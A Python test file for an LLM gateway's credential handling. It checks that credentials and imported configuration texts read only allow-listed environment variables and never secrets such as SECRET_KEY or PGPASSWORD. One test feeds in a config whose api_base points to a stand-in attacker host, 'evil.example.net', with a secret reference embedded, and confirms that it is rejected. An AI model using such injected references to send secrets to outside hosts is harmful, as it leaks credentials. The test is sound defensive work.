"""Which variables of the environment a credential or a text may have: those on the list, never the gateway's own."""

from __future__ import annotations

from typing import Any

import pytest
from django.conf import settings as configured
from django.core.exceptions import ValidationError

from configuration.apply.import_configuration import import_configuration
from configuration.file.reading import read_text
from configuration.file.schema import ConfigurationError
from providers.credentials.variables import may_be_read
from providers.models import Credential, Provider
from routing.loading.load import load_snapshot
from tests.rooms.test_checks import warnings

pytestmark = pytest.mark.django_db

OWN = ("SECRET_KEY", "ENCRYPTION_KEYS", "DATABASE_URL", "DEBUG", "CREDENTIAL_VARIABLES", "DJANGO_SETTINGS_MODULE")


@pytest.fixture
def provider() -> Provider:
    return Provider.objects.create(name="mine", dialect="openai_chat", base_url="https://example.com/v1")


def _names(provider: Provider, variable: str, **fields: Any) -> Credential:
    return Credential(provider=provider, source=Credential.Source.ENVIRONMENT, variable=variable, **fields)


def _loaded(provider: Provider) -> list[str]:
    return [one.secret.reveal() for one in load_snapshot({}).providers[provider.pk].credentials]


def test_the_list_of_a_new_installation() -> None:
    allowed = ("OPENAI_API_KEY", "ANTHROPIC_AUTH_TOKEN", "BENCHMARK_UPSTREAM_KEY", "_API_KEY")
    refused = (*OWN, "AWS_SECRET_ACCESS_KEY", "PATH", "HOME", "PGPASSWORD", "openai_api_key", "API_KEY", "KEY")
    assert [name for name in (*allowed, *refused) if may_be_read(name)] == list(allowed)


@pytest.mark.parametrize("name", OWN)
def test_no_list_allows_the_gateways_own_settings(name: str, settings: Any) -> None:
    settings.CREDENTIAL_VARIABLES = ["*", name]
    assert not may_be_read(name)


def test_every_variable_that_the_settings_read_is_their_own() -> None:
    assert {"SECRET_KEY", "ENCRYPTION_KEYS", "DATABASE_URL", "CUSTOM_ROUTER"} <= configured.SETTINGS_VARIABLES


@pytest.mark.parametrize(
    ("name", "says"),
    [
        ("SECRET_KEY", "SECRET_KEY is one of the gateway's own settings"),
        ("PGPASSWORD", "CREDENTIAL_VARIABLES=*_API_KEY,*_AUTH_TOKEN,BENCHMARK_UPSTREAM_KEY,PGPASSWORD"),
    ],
)
def test_a_credential_cannot_name_another_variable(
    provider: Provider, name: str, says: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(name, "marked-secret-of-the-process")
    row = _names(provider, name)
    with pytest.raises(ValidationError, match="variable") as refused:
        row.full_clean()
    assert says in refused.value.message_dict["variable"][0]
    # Nor is it read where a row names it nonetheless.
    row.save()
    assert _loaded(provider) == []
    assert load_snapshot({}).providers[provider.pk].refusal == (
        f"the provider has no usable credential (default: the variable {name} may not be read: see "
        "CREDENTIAL_VARIABLES)"
    )


def test_a_variable_that_was_named_before_there_was_a_list_keeps_working(
    provider: Provider, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OUR_SECRET", "sk-of-before")
    monkeypatch.setenv("ANOTHER_SECRET", "marked-secret-of-the-process")
    row = _names(provider, "OUR_SECRET", kept_variable="OUR_SECRET")
    row.save()
    assert _loaded(provider) == ["sk-of-before"]
    row.full_clean()
    assert (
        "CREDENTIAL_VARIABLES=*_API_KEY,*_AUTH_TOKEN,BENCHMARK_UPSTREAM_KEY,OUR_SECRET"
        in (warnings(["default"])["gateway.W005"])
    )
    row.variable = "ANOTHER_SECRET"
    with pytest.raises(ValidationError):
        row.full_clean()
    row.save()
    assert _loaded(provider) == []


def test_a_row_that_names_a_setting_is_not_kept_either(provider: Provider, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_KEY", "marked-secret-of-the-process")
    _names(provider, "SECRET_KEY", kept_variable="SECRET_KEY").save()
    assert _loaded(provider) == []
    assert "find out who entered them" in warnings(["default"])["gateway.W005"]


def _import(text: str) -> Any:
    return import_configuration(read_text(text), write=True)


@pytest.mark.parametrize("written", ["$SECRET_KEY", "${SECRET_KEY}", "os.environ/SECRET_KEY"])
def test_no_setting_is_filled_into_an_imported_text(written: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET_KEY", "marked-secret-of-the-process")
    text = f"""\
model_list:
  - model_name: one
    litellm_params: {{model: openai/a, api_base: "https://evil.example.net/{written}", api_key: "{written}"}}
  - model_name: two
    litellm_params: {{model: "openai/{written}", api_key: "sk-{written}"}}
"""
    report = _import(text)
    assert "api_base: https://evil.example.net/" in report.not_carried_over[0]
    assert "may not be read" in report.not_carried_over[0]
    assert not Provider.objects.filter(base_url__contains="marked").exists()
    assert not Credential.objects.exclude(variable="").exists()


def test_an_allowed_variable_is_filled_in(settings: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    settings.CREDENTIAL_VARIABLES = ["*_API_KEY", "LLM_HOST"]
    monkeypatch.setenv("LLM_HOST", "llm.example.com")
    _import(
        'model_list: [{model_name: one, litellm_params: {model: openai/a, api_base: "https://${LLM_HOST}/v1", '
        'api_key: "$LLM_API_KEY"}}]'
    )
    assert Provider.objects.get().base_url == "https://llm.example.com/v1"
    assert Credential.objects.get().variable == "LLM_API_KEY"


def test_a_file_of_our_own_names_the_place_and_the_line_to_add() -> None:
    with pytest.raises(ConfigurationError, match=r"credentials\[0\].variable: PGPASSWORD may not be read") as refused:
        _import(
            "version: 1\nproviders: [{name: p, dialect: openai_chat, base_url: 'https://example.com/v1', "
            "credentials: [{variable: PGPASSWORD}]}]"
        )
    assert "CREDENTIAL_VARIABLES=*_API_KEY,*_AUTH_TOKEN,BENCHMARK_UPSTREAM_KEY,PGPASSWORD" in str(refused.value)
